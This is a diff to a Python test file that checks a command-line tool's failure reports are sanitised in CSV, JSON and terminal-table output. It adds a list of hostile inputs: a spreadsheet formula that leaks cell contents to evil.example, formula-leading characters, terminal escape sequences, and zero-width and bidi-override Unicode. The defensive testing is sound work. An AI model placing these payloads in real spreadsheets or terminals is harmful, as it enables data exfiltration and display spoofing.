@@ -22,6 +22,7 @@ from wats_extract.fake.app import App
 from wats_extract.fake.faults import Faults
 from wats_extract.fake.plant.data import Plant
 from wats_extract.fake.server import serve
+from wats_extract.masking import harmless
 from wats_extract.resources.catalogue import DOMAINS, RESOURCES
 from wats_extract.state.tables import FAILURES
 
@@ -166,6 +167,40 @@ def test_failures_in_three_formats(after_run: tuple[Desk, App]) -> None:
     listed = list(csv.DictReader(io.StringIO(desk.wats("failures", "p.yaml", "--format", "csv").out)))
     assert [row["error_code"] for row in listed] == [row["error_code"] for row in result]
     assert listed[0]["last_failed_at"] == result[0]["last_failed_at"]
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "+1+1",
+    "-2",
+    "@SUM(A1)",
+    " \t=1",
+    "\uff1d1",
+    "\x1b]0;owned\x07\x1b[2J",
+    "\x9b2J",
+    "ad\u200bmin\U000e0041\u202e",
+    "back\rforth",
+]
+
+
+@pytest.mark.parametrize("kind", ["csv", "json", "table"])
+@pytest.mark.parametrize("text", HOSTILE)
+def test_failures_are_harmless_in_a_terminal_and_in_a_spreadsheet(
+    after_run: tuple[Desk, App], kind: str, text: str
+) -> None:
+    desk, _ = after_run
+    with duckdb.connect(desk.folder / "data/wats.duckdb") as tables:
+        tables.execute("UPDATE _wats_failures SET message = ?, hint = ?", [text, "-harmless"])
+    out = desk.wats("failures", "p.yaml", "--format", kind).out
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e\U000e0041]", out)
+    if kind == "json":
+        assert [row["message"] for row in json.loads(out)] == [text] * 2
+    if kind == "csv":
+        rows = list(csv.DictReader(io.StringIO(out)))
+        assert [row["hint"] for row in rows] == ["'-harmless"] * 2
+        assert all(row["attempts"].isdigit() for row in rows)
+        shown = {row["message"] for row in rows}
+        assert shown == {f"'{text}" if text.strip()[0] in "=+-@\uff1d" else harmless(text)}
 
 
 def test_no_failures(desk: Desk) -> None:
